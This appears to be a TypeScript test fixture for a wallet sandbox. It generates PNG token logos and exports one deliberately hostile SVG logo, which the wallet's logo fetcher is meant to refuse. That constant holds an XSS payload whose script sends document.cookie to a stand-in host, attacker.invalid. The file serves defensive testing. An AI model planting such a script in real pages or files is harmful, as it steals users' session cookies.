/**
 * Token logos the sandbox serves at /sandbox/logos/<SYMBOL>.png: a 32×32 disc in a colour of
 * the symbol, made at start (no image files to ship). UNVR's logo is hostile on purpose
 * (`UNVR.svg`, an SVG with a script): it is what the wallet's logo fetcher must refuse, so the
 * test of "a hostile logo never reaches the page" runs against a real server.
 */
import { createHash } from 'node:crypto';
import { deflateSync } from 'node:zlib';

export const HOSTILE_LOGO_FILE = 'UNVR.svg';
export const HOSTILE_LOGO_BODY =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("https://attacker.invalid/" + document.cookie)</script><circle r="16"/></svg>';

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(bytes: Buffer): number {
  let c = 0xffffffff;
  for (const byte of bytes) c = (CRC_TABLE[(c ^ byte) & 0xff] as number) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A 32×32 RGBA PNG of a disc coloured from the symbol. */
export function logoPng(symbol: string): Buffer {
  const size = 32;
  const [r = 0, g = 0, b = 0] = createHash('sha256').update(symbol).digest();
  const rows: Buffer[] = [];
  for (let y = 0; y < size; y++) {
    const row = Buffer.alloc(1 + size * 4); // filter byte 0, then pixels
    for (let x = 0; x < size; x++) {
      const inside = (x - 15.5) ** 2 + (y - 15.5) ** 2 <= 15.5 ** 2;
      row.set(inside ? [r, g, b, 255] : [0, 0, 0, 0], 1 + x * 4);
    }
    rows.push(row);
  }
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header.set([8, 6, 0, 0, 0], 8); // 8 bits, RGBA, deflate, no filter, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.concat(rows))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
